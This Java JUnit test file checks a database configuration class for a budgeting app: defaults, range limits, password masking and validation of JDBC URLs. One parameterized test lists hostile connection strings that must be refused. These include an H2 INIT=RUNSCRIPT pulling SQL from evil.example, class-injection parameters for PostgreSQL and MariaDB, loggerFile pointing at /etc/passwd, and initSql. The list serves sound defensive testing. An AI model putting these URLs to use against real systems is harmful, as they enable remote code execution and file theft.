package dev.budgetpulse.persistence;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Path;
import java.time.Duration;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class DatabaseConfigTest {
  private static final DatabaseConfig CONFIG =
      DatabaseConfig.of("jdbc:postgresql://db.example:5432/home?ssl=true", "ada", "s3cret!");

  @Test
  void waits_10_seconds_to_connect_30_for_a_statement_and_keeps_a_connection_300() {
    assertEquals(10, CONFIG.poolSize());
    assertEquals(Duration.ofSeconds(10), CONFIG.connectTimeout());
    assertEquals(Duration.ofSeconds(30), CONFIG.statementTimeout());
    assertEquals(Duration.ofMinutes(5), CONFIG.connectionLifetime());
  }

  @Test
  void changes_one_thing_at_a_time() {
    DatabaseConfig changed =
        CONFIG
            .withPoolSize(3)
            .withConnectTimeout(Duration.ofSeconds(1))
            .withStatementTimeout(Duration.ofSeconds(2))
            .withStartTimeout(Duration.ofSeconds(4))
            .withMigrationTimeout(Duration.ofSeconds(5))
            .withConnectionLifetime(Duration.ofSeconds(33))
            .withLeakAfter(Duration.ofSeconds(2))
            .withSchema("family")
            .withTablePrefix("home_")
            .withPartitions(16);
    assertEquals(
        new DatabaseConfig(
            CONFIG.url(),
            "ada",
            "s3cret!",
            3,
            Duration.ofSeconds(1),
            Duration.ofSeconds(2),
            Duration.ofSeconds(4),
            Duration.ofSeconds(5),
            Duration.ofSeconds(33),
            Duration.ofSeconds(2),
            "family",
            "home_",
            16),
        changed);
  }

  @Test
  void does_not_tell_the_password() {
    assertTrue(CONFIG.toString().contains("ada"));
    assertFalse(CONFIG.toString().contains("s3cret"));
  }

  @Test
  void refuses_what_is_out_of_range() {
    refused(() -> CONFIG.withPoolSize(0));
    refused(() -> CONFIG.withPoolSize(201));
    refused(() -> CONFIG.withConnectTimeout(Duration.ofMillis(249)));
    refused(() -> CONFIG.withConnectTimeout(Duration.ofMinutes(6)));
    refused(() -> CONFIG.withStatementTimeout(Duration.ZERO));
    refused(() -> CONFIG.withStatementTimeout(Duration.ofSeconds(Long.MAX_VALUE)));
    refused(() -> CONFIG.withStartTimeout(Duration.ofMillis(249)));
    refused(() -> CONFIG.withMigrationTimeout(Duration.ofDays(2)));
    refused(() -> CONFIG.withConnectionLifetime(Duration.ofSeconds(29)));
    refused(() -> CONFIG.withConnectionLifetime(Duration.ofDays(2)));
    refused(() -> CONFIG.withLeakAfter(Duration.ofMillis(1999)));
    refused(() -> CONFIG.withSchema("a b"));
    refused(() -> DatabaseConfig.of("jdbc:mariadb://db/x", "ada", "").withSchema("family"));
    refused(() -> CONFIG.withTablePrefix(""));
    refused(() -> CONFIG.withPartitions(0));
    refused(() -> CONFIG.withPartitions(1025));
    refused(() -> DatabaseConfig.inMemory("x").withPartitions(2));
    refused(() -> CONFIG.withTablePrefix("Home_"));
    refused(() -> CONFIG.withTablePrefix("a".repeat(21)));
    refused(() -> DatabaseConfig.of(CONFIG.url(), "a\nb", ""));
    refused(() -> DatabaseConfig.of(CONFIG.url(), "a".repeat(201), ""));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "jdbc:oracle:thin:@db",
        "JDBC:H2:mem:x",
        "jdbc:h2:",
        "jdbc:h2:home",
        "jdbc:h2:zip:~/db.zip!/home",
        "jdbc:h2:mem:x\n;DB_CLOSE_DELAY=-1",
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
        "jdbc:h2:mem:x;db_close_delay=-1;init=create alias x",
        "jdbc:h2:mem:x;MODE=MySQL",
        "jdbc:h2:file:/tmp/x;TRACE_LEVEL_FILE=3",
        "jdbc:h2:mem:x;USER=sa",
        "jdbc:h2:mem:x\\;INIT=y",
        "jdbc:h2:mem:x;",
        "jdbc:postgresql://db/x?password=s3cret!",
        "jdbc:postgresql://db/x?user=ada",
        "jdbc:postgresql://db/x?ssl=true&socketFactory=evil.Factory&socketFactoryArg=x",
        "jdbc:postgresql://db/x?sslFactory=evil.Factory",
        "jdbc:postgresql://db/x?loggerFile=/etc/passwd",
        "jdbc:postgresql://db/x?AuthenticationPluginClassName=evil.Plugin",
        "jdbc:mariadb:home",
        "jdbc:mariadb://db",
        "jdbc:mariadb://address=(host=db)(port=1)/x",
        "jdbc:mariadb:sequential://db/x",
        "jdbc:mariadb://db/x?user=ada",
        "jdbc:mariadb://db/x?password=s3cret!",
        "jdbc:mariadb://db/x?allowLocalInfile=true",
        "jdbc:mariadb://db/x?sslMode=trust&socketFactory=evil.Factory",
        "jdbc:mariadb://db/x?initSql=evil",
        "jdbc:mariadb://db/x?sslMode=trust&"
      })
  void refuses_an_address_that_does_more_than_name_a_database(String url) {
    IllegalArgumentException refusal = refused(() -> DatabaseConfig.of(url, "ada", "s3cret!"));
    assertFalse(refusal.getMessage().contains("s3cret"), refusal.getMessage());
    assertFalse(refusal.getMessage().contains("evil"), refusal.getMessage());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:h2:mem:x",
        "jdbc:h2:~/home",
        "jdbc:h2:./home",
        "jdbc:h2:C:/home",
        "jdbc:h2:file:/var/home;CIPHER=AES;WRITE_DELAY=0;TRACE_LEVEL_FILE=0",
        "jdbc:h2:tcp://db.example/home;IFEXISTS=TRUE",
        "jdbc:postgresql:home",
        "jdbc:mariadb://db.example/home",
        "jdbc:mariadb://[::1]:3306,db2.example/home_1?sslMode=verify-full&tcpKeepAlive=true",
        "jdbc:postgresql://db.example/home?sslmode=verify-full&ApplicationName=home"
      })
  void takes_an_address_that_names_a_database(String url) {
    assertEquals(url, DatabaseConfig.of(url, "ada", "").url());
  }

  @Test
  void an_embedded_database_is_a_file_and_nothing_else() {
    String url = DatabaseConfig.embedded(Path.of("home.db")).url();
    assertTrue(url.startsWith("jdbc:h2:file:" + Path.of("home.db").toAbsolutePath()), url);
    refused(() -> DatabaseConfig.embedded(Path.of("x;INIT=RUNSCRIPT FROM 'y'")));
    refused(() -> DatabaseConfig.embedded(Path.of("x\ny")));
  }

  @Test
  void a_database_in_memory_has_a_plain_name() {
    assertEquals("jdbc:h2:mem:a-b_1;DB_CLOSE_DELAY=-1", DatabaseConfig.inMemory("a-b_1").url());
    refused(() -> DatabaseConfig.inMemory(""));
    refused(() -> DatabaseConfig.inMemory("x;INIT=y"));
    refused(() -> DatabaseConfig.inMemory("x".repeat(65)));
  }

  private static IllegalArgumentException refused(Runnable what) {
    return assertThrows(IllegalArgumentException.class, what::run);
  }
}
